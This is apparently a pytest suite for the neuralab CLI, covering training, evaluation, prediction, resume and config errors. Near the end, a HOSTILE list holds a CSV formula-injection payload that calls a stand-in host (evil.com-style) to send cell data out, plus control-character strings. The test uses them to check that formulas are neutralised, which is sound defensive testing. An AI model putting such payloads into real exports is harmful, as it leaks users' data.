"""The `neuralab` command, run in-process through ``main(argv)`` (and once as a subprocess)."""

import csv
import json
import subprocess
import sys

import numpy as np
import pytest

import neuralab as nl
from neuralab.cli import main


def _run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture(scope="module")
def moons_run(tmp_path_factory):
    out = tmp_path_factory.mktemp("runs")
    code = main(["train", "--data", "moons", "--hidden", "16", "16", "--epochs", "8",
                 "--out-dir", str(out), "--name", "m"])
    assert code == 0
    return out / "m"


def test_help_shows_examples_for_each_command(capsys):
    with pytest.raises(SystemExit) as exc:
        main(["--help"])
    assert exc.value.code == 0
    out = capsys.readouterr().out
    for command in ("neuralab train", "neuralab evaluate", "neuralab predict",
                    "neuralab datasets", "neuralab lab"):
        assert command in out


def test_datasets_lists_the_bundled_sets(capsys):
    code, out, _ = _run(capsys, "datasets")
    assert code == 0
    names = [line.split()[0] for line in out.splitlines()]
    assert names == list(nl.data.DATASETS)


def test_train_writes_the_run_folder(moons_run):
    files = {p.name for p in moons_run.iterdir()}
    assert {"model.safetensors", "config.json", "metrics.csv", "metrics.jsonl", "report.html",
            "loss.png", "accuracy.png", "lr.png", "confusion.png", "boundary.png"} <= files
    config = json.loads((moons_run / "config.json").read_text())
    assert config["epochs"] == 8 and config["hidden"] == [16, 16] and config["dataset"] == "moons"
    rows = (moons_run / "metrics.csv").read_text().splitlines()
    assert rows[0].startswith("epoch,loss") and len(rows) == 1 + 8
    records = [json.loads(line) for line in (moons_run / "metrics.jsonl").read_text().splitlines()]
    assert [r["epoch"] for r in records] == list(range(1, 9))
    assert records[-1]["loss"] == pytest.approx(float(rows[-1].split(",")[1]))
    page = (moons_run / "report.html").read_text()
    for png in ("loss.png", "accuracy.png", "lr.png", "confusion.png", "boundary.png",
                "diagnostics.png"):
        assert f'src="{png}"' in page
    assert "test accuracy" in page


def test_train_summary_matches_the_saved_model(moons_run, capsys):
    ds = nl.data.load("moons", val_size=0.1, seed=0, standardize=False)
    model = nl.load(moons_run / "model.safetensors")     # takes raw inputs: it scales them
    acc = nl.evaluate(model, ds.X_test, ds.y_test)["accuracy"]
    code, out, _ = _run(capsys, "evaluate", str(moons_run / "model.safetensors"),
                        "--data", "moons")
    assert code == 0
    # `evaluate --data moons` uses the run's split: the same test part as the line above
    ds0 = nl.data.load("moons", seed=0, standardize=False)
    acc0 = nl.evaluate(model, ds0.X_test, ds0.y_test)["accuracy"]
    assert acc0 == acc
    line = next(x for x in out.splitlines() if x.startswith("test accuracy"))
    assert float(line.split()[-1]) == pytest.approx(acc0, abs=1e-4)
    assert acc > 0.8


def test_predict_applies_the_models_scaling(moons_run, tmp_path, capsys):
    rng = np.random.default_rng(1)
    X = rng.normal(size=(7, 2))
    src = tmp_path / "in.csv"
    np.savetxt(src, X, delimiter=",", header="x1,x2", comments="")
    dest = tmp_path / "out.csv"
    code, out, _ = _run(capsys, "predict", str(moons_run / "model.safetensors"), str(src),
                        "--output", str(dest))
    assert code == 0 and "7 predictions" in out
    lines = dest.read_text().splitlines()
    assert lines[0] == "prediction,p_0,p_1"              # a column per class, by label
    got = np.array([[float(v) for v in row.split(",")] for row in lines[1:]])
    model = nl.load(moons_run / "model.safetensors")
    (scaler,) = model.preprocessing                      # the training part's statistics
    ds = nl.data.load("moons", val_size=0.1, seed=0)
    np.testing.assert_array_equal(scaler.mean_, ds.scaler.mean_)
    scaled = (X - scaler.mean_) / scaler.scale_
    model.preprocessing = []
    np.testing.assert_array_equal(got[:, 0], model.predict(scaled))
    np.testing.assert_allclose(got[:, 1:], model.predict_proba(scaled), atol=1e-5)
    npy = tmp_path / "in.npy"
    np.save(npy, X)
    code, out, _ = _run(capsys, "predict", str(moons_run / "model.safetensors"), str(npy))
    assert out.splitlines()[1:] == lines[1:]


def test_defaults_reach_97_percent_on_digits(tmp_path, capsys):
    code, out, _ = _run(capsys, "train", "--out-dir", str(tmp_path), "--name", "d")
    assert code == 0
    line = next(x for x in out.splitlines() if x.startswith("test accuracy"))
    assert float(line.split()[-1]) >= 0.97


@pytest.mark.parametrize("toml, message", [
    ('epochs = 3\nlearning_rate = 0.1\n', "unknown key 'learning_rate'"),
    ('epochs = "ten"\n', "epochs must be an integer"),
    ('hidden = 32\n', "hidden must be a list of integers"),
    ('lr = true\n', "lr must be a number"),
    ('epochs = [\n', "not valid TOML"),
])
def test_bad_config_is_one_line_and_exit_2(tmp_path, capsys, toml, message):
    path = tmp_path / "run.toml"
    path.write_text(toml)
    code, _, err = _run(capsys, "train", "--config", str(path), "--out-dir", str(tmp_path))
    assert code == 2
    assert err.startswith("neuralab: error: ") and message in err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err


def test_config_file_then_flags_override(tmp_path, capsys):
    path = tmp_path / "run.toml"
    path.write_text('dataset = "iris"\nhidden = [8]\nepochs = 50\nname = "cfg"\n')
    code, _, _ = _run(capsys, "train", "--config", str(path), "--epochs", "2",
                      "--out-dir", str(tmp_path))
    assert code == 0
    config = json.loads((tmp_path / "cfg" / "config.json").read_text())
    assert (config["dataset"], config["hidden"], config["epochs"]) == ("iris", [8], 2)


@pytest.mark.parametrize("argv, message", [
    (["train", "--data", "cifar10", "--epochs", "1"], "unknown data set 'cifar10'"),
    (["train", "--data", "iris", "--lr", "-1", "--epochs", "1"], "lr must be > 0"),
    (["evaluate", "missing.safetensors", "--data", "iris"], "missing.safetensors"),
    (["predict", "missing.safetensors", "x.csv"], "missing.safetensors"),
])
def test_errors_are_one_line_without_traceback(tmp_path, capsys, argv, message):
    code, _, err = _run(capsys, *argv, "--out-dir", str(tmp_path)) if argv[0] == "train" \
        else _run(capsys, *argv)
    assert code != 0
    assert err.startswith("neuralab: error: ") and message in err
    assert len(err.strip().splitlines()) == 1


def test_debug_shows_the_traceback(tmp_path):
    with pytest.raises(ValueError, match="cifar10"):
        main(["--debug", "train", "--data", "cifar10", "--out-dir", str(tmp_path)])


def test_console_entry_point_runs(tmp_path):
    proc = subprocess.run([sys.executable, "-m", "neuralab.cli", "datasets"],
                          capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0 and "digits" in proc.stdout
    proc = subprocess.run([sys.executable, "-m", "neuralab.cli", "evaluate", "nope.safetensors",
                           "--data", "iris"], capture_output=True, text=True, timeout=60)
    assert proc.returncode != 0 and "Traceback" not in proc.stderr


def test_killed_run_resumes_to_the_same_model(tmp_path):
    import os
    import signal
    import time

    args = ["train", "--data", "digits", "--hidden", "64", "--epochs", "12",
            "--checkpoint-every", "7", "--out-dir", str(tmp_path)]
    assert main([*args, "--name", "whole"]) == 0
    proc = subprocess.Popen([sys.executable, "-m", "neuralab.cli", *args, "--name", "cut"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    ckpt = tmp_path / "cut" / "checkpoint.safetensors"
    deadline = time.monotonic() + 60
    while not ckpt.exists() and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.005)
    time.sleep(0.05)
    if proc.poll() is None:
        os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    assert ckpt.exists()
    print("killed mid-run:", proc.returncode == -signal.SIGKILL)
    assert main(["train", "--resume", str(tmp_path / "cut")]) == 0
    whole = nl.load(tmp_path / "whole" / "model.safetensors").params
    resumed = nl.load(tmp_path / "cut" / "model.safetensors").params
    np.testing.assert_array_equal(resumed, whole)
    rows = (tmp_path / "cut" / "metrics.csv").read_text().splitlines()
    assert len(rows) == 1 + 12


def test_csv_data_trains_evaluates_and_predicts(tmp_path, capsys):
    rng = np.random.default_rng(0)
    X = rng.normal(size=(120, 3)) * [1.0, 10.0, 100.0] + [0.0, 5.0, -50.0]
    y = (X[:, 0] + X[:, 1] / 10 > 0.5).astype(int)
    path = tmp_path / "table.csv"
    np.savetxt(path, np.c_[X, y], delimiter=",", header="a,b,c,target", comments="",
               fmt=["%.6f", "%.6f", "%.6f", "%d"])
    code, out, _ = _run(capsys, "train", "--data", str(path), "--label", "target", "--epochs",
                        "40", "--hidden", "8", "--out-dir", str(tmp_path), "--name", "csv")
    assert code == 0 and "test accuracy" in out
    model_path = str(tmp_path / "csv" / "model.safetensors")
    code, out, _ = _run(capsys, "evaluate", model_path, "--data", str(path), "--label",
                        "target")
    assert code == 0
    acc = float(next(x for x in out.splitlines() if x.startswith("test accuracy")).split()[-1])
    assert acc > 0.85                # learned on standardized inputs, evaluated the same way
    wrong = tmp_path / "wide.csv"
    np.savetxt(wrong, np.ones((2, 5)), delimiter=",")
    code, _, err = _run(capsys, "predict", model_path, str(wrong))
    assert code == 2 and "5 feature columns per row but the model expects 3" in err


def test_usage_errors_are_one_line(capsys):
    for argv in (["bogus"], ["train", "--schedule", "linear"], ["train", "--epochs", "x"]):
        with pytest.raises(SystemExit) as exc:
            main(argv)
        err = capsys.readouterr().err
        assert exc.value.code == 2
        assert err.startswith("neuralab: error: ") and len(err.strip().splitlines()) == 1


def test_lab_is_passed_through(capsys):
    code, out, _ = _run(capsys, "lab", "list")
    assert code == 0 and "sigmoid" in out


def test_divergence_is_reported_and_the_run_still_written(tmp_path, capsys):
    argv = ["train", "--data", "iris", "--optimizer", "sgd", "--lr", "1e38", "--schedule",
            "constant", "--epochs", "2", "--out-dir", str(tmp_path), "--name", "div"]
    code, out, err = _run(capsys, *argv)
    assert code == 3
    assert err.startswith("neuralab: warning: training diverged at step")
    assert "learning rate" in err and "Hint" in err and "Traceback" not in err
    assert "diverged" in out and "test accuracy" in out
    assert np.isfinite(nl.load(tmp_path / "div" / "model.safetensors").params).all()
    code, _, err = _run(capsys, *argv, "--on-divergence", "raise", "--name", "div2")
    assert code == 3 and err.startswith("neuralab: error: training diverged")
    assert np.isfinite(nl.load(tmp_path / "div2" / "model.safetensors").params).all()
    assert (tmp_path / "div2" / "metrics.csv").exists()


def test_cli_imports_matplotlib_only_to_draw():
    code = ("import sys, neuralab.cli as c; c.main(['datasets']); "
            "assert 'matplotlib' not in sys.modules and 'torch' not in sys.modules")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=60)
    assert proc.returncode == 0, proc.stderr


# ---------------------------------------------------------------------------- the model file
def _iris_csv(folder):
    """scikit-learn's iris with the species as text, and the virginica rows alone."""
    from sklearn.datasets import load_iris

    iris = load_iris()
    header = "sepal_length,sepal_width,petal_length,petal_width,species"
    rows = [",".join([*(f"{v:g}" for v in x), iris.target_names[t]])
            for x, t in zip(iris.data, iris.target, strict=True)]
    (folder / "iris_str.csv").write_text("\n".join([header, *rows]) + "\n")
    virginica = [r for r in rows if r.endswith(",virginica")]
    (folder / "virginica.csv").write_text("\n".join([header, *virginica]) + "\n")
    return folder / "iris_str.csv", folder / "virginica.csv"


def _accuracy(out):
    return float(next(x for x in out.splitlines() if x.startswith("test accuracy")).split()[-1])


def test_a_model_copied_alone_evaluates_and_predicts_text_labels(tmp_path, capsys):
    """The acceptance scenario of issue 15: text labels, the model file alone elsewhere."""
    data, virginica = _iris_csv(tmp_path)
    code, _, _ = _run(capsys, "train", "--data", str(data), "--label", "species", "--hidden",
                      "16", "--out-dir", str(tmp_path / "runs"), "--name", "iris_s")
    assert code == 0
    alone = tmp_path / "elsewhere" / "model.safetensors"
    alone.parent.mkdir()
    alone.write_bytes((tmp_path / "runs" / "iris_s" / "model.safetensors").read_bytes())
    model = nl.load(alone)
    assert model.classes.tolist() == ["setosa", "versicolor", "virginica"]
    assert model.target == "species"
    X, y = nl.data.load_csv(data, label="species", encode_labels=False)
    expected = nl.evaluate(model, X, y)["accuracy"]
    for path in (tmp_path / "runs" / "iris_s" / "model.safetensors", alone):
        code, out, err = _run(capsys, "evaluate", str(path), "--data", str(data))
        assert code == 0 and err == ""
        assert _accuracy(out) == pytest.approx(expected, abs=5e-5)
    Xv, yv = nl.data.load_csv(virginica, label="species", encode_labels=False)
    right = float(np.mean(model.predict(Xv) == "virginica"))
    code, out, _ = _run(capsys, "evaluate", str(alone), "--data", str(virginica))
    assert code == 0 and _accuracy(out) == pytest.approx(right, abs=5e-5) and right > 0.5
    code, out, _ = _run(capsys, "predict", str(alone), str(virginica))
    lines = out.splitlines()
    assert lines[0] == "prediction,p_setosa,p_versicolor,p_virginica"
    assert [line.split(",")[0] for line in lines[1:]] == model.predict(Xv).tolist()
    P = np.array([[float(v) for v in line.split(",")[1:]] for line in lines[1:]])
    np.testing.assert_allclose(P, model.predict_proba(Xv), atol=1e-5)


def test_evaluate_uses_the_runs_label_column(tmp_path, capsys):
    rng = np.random.default_rng(0)
    X = rng.normal(size=(150, 3))
    y = (X[:, 0] - X[:, 2] > 0).astype(int)
    path = tmp_path / "first.csv"
    np.savetxt(path, np.c_[y, X], delimiter=",", header="label,a,b,c", comments="",
               fmt=["%d", "%.6f", "%.6f", "%.6f"])
    code, _, _ = _run(capsys, "train", "--data", str(path), "--label", "0", "--epochs", "20",
                      "--out-dir", str(tmp_path), "--name", "first")
    assert code == 0
    model = nl.load(tmp_path / "first" / "model.safetensors")
    assert model.target == "label" and model.feature_names == ["a", "b", "c"]
    code, out, _ = _run(capsys, "evaluate", str(tmp_path / "first" / "model.safetensors"),
                        "--data", str(path))
    assert code == 0
    assert _accuracy(out) == pytest.approx(nl.evaluate(model, X, y)["accuracy"], abs=5e-5)


def _strip_to_version_1(path):
    """Rewrite a model file as neuralab's format 1 wrote it: no preprocessing, no labels."""
    import struct

    raw = path.read_bytes()
    (n,) = struct.unpack("<Q", raw[:8])
    header = json.loads(raw[8:8 + n])
    meta = header["__metadata__"]
    header["__metadata__"] = {"format": "neuralab", "format_version": "1",
                              "config": meta["config"], "dtype": meta["dtype"]}
    blob = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(blob)) + blob + raw[8 + n:])


def test_an_old_model_file_still_works_and_says_what_it_lacks(tmp_path, capsys):
    rng = np.random.default_rng(2)
    X = rng.normal(size=(40, 2))
    y = (X[:, 0] > 0).astype(int)
    path = tmp_path / "data.csv"
    np.savetxt(path, np.c_[X, y], delimiter=",", header="a,b,y", comments="",
               fmt=["%.6f", "%.6f", "%d"])
    model = nl.MLP([2, 4, 2], seed=0)
    old = tmp_path / "old.safetensors"
    nl.save(model, old)
    _strip_to_version_1(old)
    code, out, err = _run(capsys, "evaluate", str(old), "--data", str(path))
    assert code == 0
    assert _accuracy(out) == pytest.approx(nl.evaluate(model, X, y)["accuracy"], abs=5e-5)
    (line,) = err.splitlines()
    assert line.startswith("neuralab: warning: ") and "records no input preprocessing (the " \
        "inputs are used as given) and no class labels" in line
    inputs = tmp_path / "inputs.csv"
    np.savetxt(inputs, X, delimiter=",", header="a,b", comments="")
    code, out, err = _run(capsys, "predict", str(old), str(inputs))
    assert code == 0 and out.splitlines()[0] == "prediction,p0,p1"
    assert [int(r.split(",")[0]) for r in out.splitlines()[1:]] == model.predict(X).tolist()
    assert "no class labels" in err
    code, _, err = _run(capsys, "evaluate", str(old), "--data", str(path), "--no-scale")
    assert code == 0 and "no input preprocessing" not in err   # --no-scale asked for none


def test_no_scale_skips_the_models_preprocessing(moons_run, capsys):
    path = moons_run / "model.safetensors"
    code, out, _ = _run(capsys, "evaluate", str(path), "--data", "moons", "--no-scale")
    assert code == 0
    model = nl.load(path)
    model.preprocessing = []
    ds = nl.data.load("moons", seed=0, standardize=False)
    assert _accuracy(out) == pytest.approx(nl.evaluate(model, ds.X_test, ds.y_test)["accuracy"],
                                           abs=5e-5)


def test_predict_into_a_missing_folder_is_a_clear_error(moons_run, tmp_path, capsys):
    src = tmp_path / "in.csv"
    np.savetxt(src, np.ones((3, 2)), delimiter=",")
    code, _, err = _run(capsys, "predict", str(moons_run / "model.safetensors"), str(src),
                        "--output", str(tmp_path / "nodir" / "p.csv"))
    assert code == 2 and "Errno" not in err
    assert err.startswith("neuralab: error: --output ") and "does not exist" in err


# ---------------------------------------------------------------------------- resume
@pytest.fixture(scope="module")
def finished_run(tmp_path_factory):
    out = tmp_path_factory.mktemp("finished")
    assert main(["train", "--data", "iris", "--hidden", "8", "--epochs", "4",
                 "--out-dir", str(out), "--name", "r"]) == 0
    return out / "r"


def _copy(run, tmp_path):
    import shutil

    return shutil.copytree(run, tmp_path / "runs" / "r")


def _files(folder):
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}


@pytest.mark.parametrize("extra, named", [
    (["--hidden", "16"], "--hidden [16] (the run has [8])"),
    (["--data", "wine"], "--dataset 'wine' (the run has 'iris')"),
    (["--lr", "0.5"], "--lr 0.5 (the run has 0.003)"),
    (["--epochs", "8"], "--epochs 8 (the run has 4). To train more epochs, pass "
                        "--extend-epochs N"),
    (["--name", "other"], "--name 'other'"),
])
def test_a_refused_resume_writes_nothing(finished_run, tmp_path, capsys, extra, named):
    run = _copy(finished_run, tmp_path)
    before = _files(run)
    code, _, err = _run(capsys, "train", "--resume", str(run), *extra)
    assert code == 2 and len(err.strip().splitlines()) == 1
    assert "refusing options that would change it" in err and named in err
    assert _files(run) == before and not (tmp_path / "runs" / "other").exists()
    code, out, _ = _run(capsys, "train", "--resume", str(run))       # the run still resumes
    assert code == 0 and "already trained its 4 epochs" in out
    assert json.loads((run / "config.json").read_text()) == json.loads(before["config.json"])


def test_a_resume_whose_data_changed_is_refused_before_writing(tmp_path, capsys):
    rng = np.random.default_rng(3)
    X = rng.normal(size=(60, 2))
    y = (X[:, 0] > 0).astype(int)
    path = tmp_path / "d.csv"
    np.savetxt(path, np.c_[X, y], delimiter=",", header="a,b,y", comments="",
               fmt=["%.6f", "%.6f", "%d"])
    assert main(["train", "--data", str(path), "--epochs", "2", "--out-dir",
                 str(tmp_path / "runs"), "--name", "d"]) == 0
    run = tmp_path / "runs" / "d"
    before = _files(run)
    np.savetxt(path, np.c_[X[:50], y[:50]], delimiter=",", header="a,b,y", comments="",
               fmt=["%.6f", "%.6f", "%d"])
    code, _, err = _run(capsys, "train", "--resume", str(run))
    assert code == 2 and "the checkpoint was written with m=42 but this run has m=35" in err
    assert _files(run) == before


def test_extend_epochs_continues_on_the_stated_longer_schedule(finished_run, tmp_path, capsys):
    run = _copy(finished_run, tmp_path)
    code, _, err = _run(capsys, "train", "--extend-epochs", "3")
    assert code == 2 and "--extend-epochs applies to a resumed run" in err
    code, out, _ = _run(capsys, "train", "--resume", str(run), "--extend-epochs", "3")
    assert code == 0
    assert "the cosine schedule's horizon becomes t_max = 7 epochs (it was 4)" in out
    assert json.loads((run / "config.json").read_text())["epochs"] == 7
    rows = [line.split(",") for line in (run / "metrics.csv").read_text().splitlines()]
    lr = [float(r[rows[0].index("lr")]) for r in rows[1:]]
    old, new = nl.schedules.CosineAnnealing(3e-3, 4), nl.schedules.CosineAnnealing(3e-3, 7)
    assert lr == pytest.approx([old(t) for t in range(4)] + [new(t) for t in range(4, 7)])
    code, out, _ = _run(capsys, "train", "--resume", str(run))
    assert code == 0 and "already trained its 7 epochs" in out


# ---------------------------------------------------------------------------- smaller ones
def test_test_size_zero_trains_without_a_test_part(tmp_path, capsys):
    code, out, _ = _run(capsys, "train", "--data", "moons", "--test-size", "0", "--epochs", "2",
                        "--out-dir", str(tmp_path), "--name", "all")
    assert code == 0 and "none (--test-size 0)" in out
    code, _, err = _run(capsys, "evaluate", str(tmp_path / "all" / "model.safetensors"),
                        "--data", "moons")
    assert code == 2 and "has no test part" in err


@pytest.mark.parametrize("target, message", [
    (lambda X: 3.7 * X[:, 0] + 0.01, "holds real numbers (80 distinct values"),
    (lambda X: np.arange(len(X)) * 3, "80 distinct values and 80 of them occur in one row"),
])
def test_a_regression_csv_says_train_trains_classifiers(tmp_path, capsys, target, message):
    X = np.random.default_rng(4).normal(size=(80, 2))
    path = tmp_path / "reg.csv"
    np.savetxt(path, np.c_[X, target(X)], delimiter=",", header="a,b,t", comments="")
    code, _, err = _run(capsys, "train", "--data", str(path), "--out-dir", str(tmp_path))
    assert code == 2 and len(err.strip().splitlines()) == 1
    assert message in err and "trains classifiers" in err
    assert not list(tmp_path.glob("*/config.json"))


def test_lab_errors_carry_the_prefix(capsys):
    code, _, err = _run(capsys, "lab", "run", "bogus")
    assert code == 2 and err.startswith("neuralab: error: unknown experiment 'bogus'")


# ------------------------------------------------- columns by name (issue 18.2), safe text (22.4)
@pytest.fixture(scope="module")
def iris_model(tmp_path_factory):
    folder = tmp_path_factory.mktemp("iris")
    data, _ = _iris_csv(folder)
    assert main(["train", "--data", str(data), "--label", "species", "--hidden", "8",
                 "--epochs", "5", "--out-dir", str(folder), "--name", "m"]) == 0
    X, y = nl.data.load_csv(data, label="species", encode_labels=False)
    return folder / "m" / "model.safetensors", X, y


def _probabilities(out):
    return np.array([[float(v) for v in line.split(",")[1:]] for line in out.splitlines()[1:]])


def test_predict_takes_columns_by_name_in_any_order(iris_model, tmp_path, capsys):
    path, X, _ = iris_model
    model = nl.load(path)
    order = [3, 1, 2, 0]
    names = ["sepal_length", "sepal_width", "petal_length", "petal_width"]
    shuffled = tmp_path / "shuffled.csv"
    np.savetxt(shuffled, np.c_[X[:, order], np.arange(len(X))], delimiter=",", comments="",
               header=",".join([names[j] for j in order] + ["row_id"]), fmt="%g")
    code, out, err = _run(capsys, "predict", str(path), str(shuffled))
    assert code == 0 and err == ""
    np.testing.assert_allclose(_probabilities(out), model.predict_proba(X), atol=1e-5)
    # the same rule for evaluate, and for a DataFrame in Python
    table = tmp_path / "table.csv"
    y = model.predict(X)
    with open(table, "w") as f:
        f.write("species," + ",".join(names[j] for j in order) + "\n")
        for label, row in zip(y.tolist(), X[:, order].tolist(), strict=True):
            f.write(label + "," + ",".join(map(repr, row)) + "\n")
    code, out, _ = _run(capsys, "evaluate", str(path), "--data", str(table))
    assert code == 0 and _accuracy(out) == 1.0
    pandas = pytest.importorskip("pandas")
    frame = pandas.DataFrame(X[:, order], columns=[names[j] for j in order])
    np.testing.assert_allclose(model.predict_proba(frame), model.predict_proba(X))


def test_predict_refuses_a_header_without_the_models_columns(iris_model, tmp_path, capsys):
    """Issue 18.2: three names match, one renamed, order changed -> exit 2, not exit 0."""
    path, X, _ = iris_model
    model = nl.load(path)
    renamed = tmp_path / "renamed.csv"
    np.savetxt(renamed, X[:, [3, 1, 2, 0]], delimiter=",", comments="", fmt="%g",
               header="petal_width,sepal_width,petal_length,SL")
    for command in (["predict", str(path), str(renamed)],
                    ["evaluate", str(path), "--data", str(renamed), "--label", "0"]):
        code, out, err = _run(capsys, *command)
        assert code == 2 and out == ""
        assert "lacks the model's column" in err and "'sepal_length'" in err
        assert "'SL'" in err and "--by-position" in err
    # the choice to use positions is explicit
    code, out, _ = _run(capsys, "predict", str(path), str(renamed), "--by-position")
    assert code == 0
    np.testing.assert_allclose(_probabilities(out), model.predict_proba(X[:, [3, 1, 2, 0]]),
                               atol=1e-5)
    pandas = pytest.importorskip("pandas")
    frame = pandas.DataFrame(X[:, [3, 1, 2, 0]],
                             columns=["petal_width", "sepal_width", "petal_length", "SL"])
    with pytest.raises(ValueError, match="lacks the model's column 'sepal_length'.*'SL'"):
        model.predict(frame)
    np.testing.assert_allclose(model.predict_proba(frame.to_numpy()),
                               model.predict_proba(X[:, [3, 1, 2, 0]]))


def test_a_file_without_a_header_is_read_by_position(iris_model, tmp_path, capsys):
    path, X, y = iris_model
    model = nl.load(path)
    bare = tmp_path / "bare.csv"
    np.savetxt(bare, X, delimiter=",", fmt="%.17g")
    code, out, _ = _run(capsys, "predict", str(path), str(bare))
    assert code == 0 and len(out.splitlines()) == 1 + len(X)       # no row taken as a header
    np.testing.assert_allclose(_probabilities(out), model.predict_proba(X), atol=1e-5)
    labelled = tmp_path / "bare_labelled.csv"
    with open(labelled, "w") as f:
        for row, label in zip(X.tolist(), y.tolist(), strict=True):
            f.write(",".join(map(repr, row)) + f",{label}\n")
    code, out, _ = _run(capsys, "evaluate", str(path), "--data", str(labelled))
    assert code == 0 and f"{len(X)} samples" in out
    assert _accuracy(out) == pytest.approx(nl.evaluate(model, X, y)["accuracy"], abs=5e-5)


def _text_label_model(folder, labels):
    """A model trained on a CSV whose text labels are ``labels`` (clusters far apart)."""
    rng = np.random.default_rng(0)
    path = folder / "labels.csv"
    with open(path, "w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["a", "b", "label"])
        for k, label in enumerate(labels):
            for row in rng.normal(loc=6 * k, size=(12, 2)):
                writer.writerow([*row.tolist(), label])
    assert main(["train", "--data", str(path), "--label", "label", "--hidden", "8",
                 "--epochs", "30", "--lr", "0.03", "--out-dir", str(folder), "--name",
                 "labels"]) == 0
    return folder / "labels" / "model.safetensors", path


HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A2)', "@SUM(1+1)", "+1+2", "-2+3",
           "line\rbreak", "red\x1b[31m\x00!"]


def test_predict_csv_cells_cannot_become_formulas_and_rows_round_trip(tmp_path, capsys):
    path, data = _text_label_model(tmp_path, HOSTILE)
    capsys.readouterr()
    out_csv = tmp_path / "pred.csv"
    code, _, _ = _run(capsys, "predict", str(path), str(data), "--output", str(out_csv))
    assert code == 0
    with open(out_csv, newline="") as f:
        rows = list(csv.reader(f))
    n = sum(1 for _ in nl.data.load_csv(data, label="label", encode_labels=False)[1])
    assert len(rows) == 1 + n                      # the CR label did not split a row
    cells = {row[0] for row in rows[1:]}
    assert cells <= {"'" + label if label[0] in "=+-@" else label for label in HOSTILE}
    assert "'=HYPERLINK(\"http://evil.example/?d=\"&A2)" in cells and len(cells) >= 4
    assert rows[0] == ["prediction", *(f"p_{label}" for label in sorted(HOSTILE))]
    assert all(not c.startswith(("=", "+", "-", "@")) for row in rows for c in row)
    # on the terminal, control characters are shown escaped
    code, out, _ = _run(capsys, "predict", str(path), str(data))
    assert code == 0 and "\x1b" not in out and "\x00" not in out and "\r" not in out
    assert "red\\x1b[31m\\x00!" in out and "line\\rbreak" in out


def test_numeric_labels_stay_numbers_in_the_predict_csv(tmp_path, capsys):
    rng = np.random.default_rng(1)
    path = tmp_path / "signs.csv"
    X = rng.normal(size=(60, 2))
    y = np.where(X[:, 0] > 0, 1, -1)
    np.savetxt(path, np.c_[X, y], delimiter=",", header="a,b,y", comments="",
               fmt=["%.6f", "%.6f", "%d"])
    assert main(["train", "--data", str(path), "--epochs", "3", "--hidden", "4",
                 "--out-dir", str(tmp_path), "--name", "signs"]) == 0
    capsys.readouterr()
    code, out, _ = _run(capsys, "predict", str(tmp_path / "signs" / "model.safetensors"),
                        str(path))
    assert code == 0
    lines = out.splitlines()
    assert lines[0] == "prediction,p_-1,p_1"
    assert {line.split(",")[0] for line in lines[1:]} <= {"-1", "1"}
    assert "'" not in out
